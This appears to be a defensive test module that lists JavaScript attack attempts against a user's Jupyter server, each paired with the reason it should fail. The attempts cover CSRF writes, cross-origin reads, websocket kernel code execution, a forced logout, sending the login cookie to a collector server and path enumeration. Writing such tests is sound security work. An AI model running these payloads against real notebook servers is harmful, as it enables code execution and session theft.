"""Attempts on Jupyter's server with the person's own cookies, and on the stage server."""

from __future__ import annotations

from typing import TYPE_CHECKING

from .attempt import Attempt, Witness

if TYPE_CHECKING:
    from .scene import Scene

_XSRF = "const xsrf = /(?:^|; )_xsrf=([^;]*)/.exec(document.cookie)?.[1] ?? '';"
#: JSON that a form can send, with a file's ending that names the isolation.
_FORM_BODY = """
const form = document.createElement('form');
form.method = 'post';
form.enctype = 'text/plain';
const field = form.appendChild(document.createElement('input'));
field.type = 'hidden';
field.name = `{"type": "file", "ext": ".form-${F.isolation}", "rest": "`;
field.value = '"}';
"""


def _file(kind: str) -> Witness:
    def is_there(scene: Scene, isolation: str) -> bool:
        return any(scene.nb.lab.root.glob(f"*{kind}-{isolation}*"))

    return is_there


def _kernel_ran(scene: Scene, isolation: str) -> bool:
    return f"socket-{isolation}" in scene.ran()


def _logged_out(scene: Scene, isolation: str) -> bool:
    return isolation in scene.logged_out


def _carried_login(scene: Scene, isolation: str) -> bool:
    cookies = [
        request.headers.get("Cookie", "")
        for request in scene.collector.requests
        if request.path == f"/carry-{isolation}"
    ]
    return any(f"{scene.login_name}=" in text for text in cookies)


ON_SERVER = (
    Attempt(
        "get",
        "read a file through Jupyter's API",
        "return (await fetch(`${F.notebook}/api/contents/secret.txt`, "
        "{credentials: 'include'})).text();",
        "Jupyter answers no other origin, and the browser shows it no answer",
        secret="file",
    ),
    Attempt(
        "get-xsrf",
        "the same with the `_xsrf` from the cookie",
        _XSRF
        + """
        const options = {credentials: 'include', headers: {'X-XSRFToken': xsrf}};
        return (await fetch(`${F.notebook}/api/contents/secret.txt`, options)).text();
        """,
        "a header needs a preflight, which Jupyter refuses",
        secret="file",
    ),
    Attempt(
        "put",
        "write a file through Jupyter's API, with the `_xsrf` from the cookie",
        _XSRF
        + """
        await fetch(`${F.notebook}/api/contents/put-${F.isolation}.txt`, {
          method: 'PUT', credentials: 'include', headers: {'X-XSRFToken': xsrf},
          body: JSON.stringify({type: 'file', format: 'text', content: 'mine'}),
        });
        """,
        "as above",
        witness=_file("put"),
    ),
    Attempt(
        "post-simple",
        "the same by a request that needs no preflight",
        _XSRF
        + """
        await fetch(`${F.notebook}/api/contents?_xsrf=${encodeURIComponent(xsrf)}`, {
          method: 'POST', mode: 'no-cors', credentials: 'include',
          body: JSON.stringify({type: 'file', ext: `.simple-${F.isolation}`}),
        });
        """,
        "Jupyter checks where a request comes from",
        witness=_file("simple"),
    ),
    Attempt(
        "post-form",
        "the same by a form that is sent into a frame and into a new window",
        _XSRF
        + _FORM_BODY
        + """
        form.action = `${F.notebook}/api/contents?_xsrf=${encodeURIComponent(xsrf)}`;
        const frame = document.createElement('iframe');
        frame.name = form.target = `form-${F.isolation}`;
        document.body.append(frame, form);
        const shown = new Promise(resolve => frame.addEventListener('load', resolve));
        form.submit();
        await shown;
        form.target = '_blank';
        form.submit();
        """,
        "Jupyter checks where a request comes from",
        witness=_file("form"),
    ),
    Attempt(
        "websocket",
        "run code over a websocket to the kernel, whose id it knows",
        """
        const socket = new WebSocket(
          `${F.notebook.replace('http', 'ws')}/api/kernels/${F.kernel}/channels`);
        await new Promise((resolve, reject) => {
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error('the websocket was refused'));
        });
        const header = {msg_id: 'a', session: 'a', username: '', msg_type: 'execute_request',
                        version: '5.3', date: new Date().toISOString()};
        const code = `ADVERSARY = [*globals().get('ADVERSARY', []), 'socket-${F.isolation}']`;
        const content = {code, silent: true, store_history: false, user_expressions: {}};
        const message = {header, parent_header: {}, metadata: {}, content, channel: 'shell'};
        const answered = new Promise(resolve => {
          socket.onmessage = ({data}) => {
            const {msg_type} = JSON.parse(data);
            if (msg_type === 'execute_reply') resolve();
          };
        });
        socket.send(JSON.stringify(message));
        await answered;
        socket.close();
        """,
        "Jupyter checks where a websocket comes from",
        witness=_kernel_ran,
    ),
    Attempt(
        "frame-page",
        "show a page of Jupyter's in a frame of its own, and read it",
        """
        const frame = document.createElement('iframe');
        frame.src = `${F.notebook}/api/contents/secret.txt`;
        const shown = new Promise(resolve => frame.addEventListener('load', resolve));
        document.body.append(frame);
        await shown;
        return frame.contentDocument.body.innerText;
        """,
        "another origin; Jupyter lets no other page frame it",
        secret="file",
    ),
    Attempt(
        "open-page",
        "open a page of Jupyter's in a new window, and read it",
        """
        const opened = open(`${F.notebook}/api/contents/secret.txt`);
        const gone = performance.now() + 5000;
        while (performance.now() < gone) {
          const text = opened.document.body?.innerText;
          if (text) return text;
          await new Promise(resolve => setTimeout(resolve, 20));
        }
        """,
        "another origin",
        secret="file",
    ),
    Attempt(
        "embed",
        "run a script, or show a picture, from the notebook's folder by its name",
        _XSRF
        + """
        const plain = `${F.notebook}/files/secret.js`;
        for (const address of [plain, `${plain}?_xsrf=${encodeURIComponent(xsrf)}`]) {
          const script = document.createElement('script');
          script.src = address;
          script.referrerPolicy = 'no-referrer';
          const over = new Promise(resolve => { script.onload = script.onerror = resolve; });
          document.body.append(script);
          await over;
        }
        return self.adversaryRead;
        """,
        "with the `_xsrf` of the cookie, Jupyter takes the request for its own page's; "
        "the browser shows no more of it than runs or is drawn",
        secret="script",
    ),
    Attempt(
        "log-out",
        "log the person out of Jupyter",
        """
        const picture = new Image();
        const over = new Promise(resolve => { picture.onload = picture.onerror = resolve; });
        picture.src = `${F.notebook}/logout`;
        await over;
        """,
        "Jupyter logs out whoever asks for the address, and the cookies of the host name go along",
        witness=_logged_out,
    ),
    Attempt(
        "carry",
        "have the login cookie sent to another server of the notebook's host name",
        """
        const picture = new Image();
        const over = new Promise(resolve => { picture.onload = picture.onerror = resolve; });
        picture.src = `${F.collector}/carry-${F.isolation}`;
        await over;
        """,
        "cookies ignore the port; such a server is a program of this very machine",
        witness=_carried_login,
    ),
    Attempt(
        "enumerate",
        "find paths of the stage servers without a token, or by guessing one",
        """
        const random = () => btoa(String.fromCharCode(
          ...crypto.getRandomValues(new Uint8Array(33)))).slice(0, 43)
          .replaceAll('+', '-').replaceAll('/', '_');
        const found = [];
        for (const server of F.servers) {
          const paths = ['', 'stage', 'probe', 'number', 'widget/OOWidget.js', 'static/', '../',
                         '/stage', '%2e%2e/stage', 'undefined/stage', 'null/probe'];
          for (let i = 0; i < 10; i++) paths.push(`${random()}/stage`, `${random()}/probe`);
          for (const path of paths) {
            try {
              const answer = await fetch(server + path);
              if (answer.ok) found.push(path);
            } catch {}
          }
        }
        return found.join() || undefined;
        """,
        "256 random bits for each chat; nothing else has an answer",
        secret="any",
        even_none=True,
    ),
)
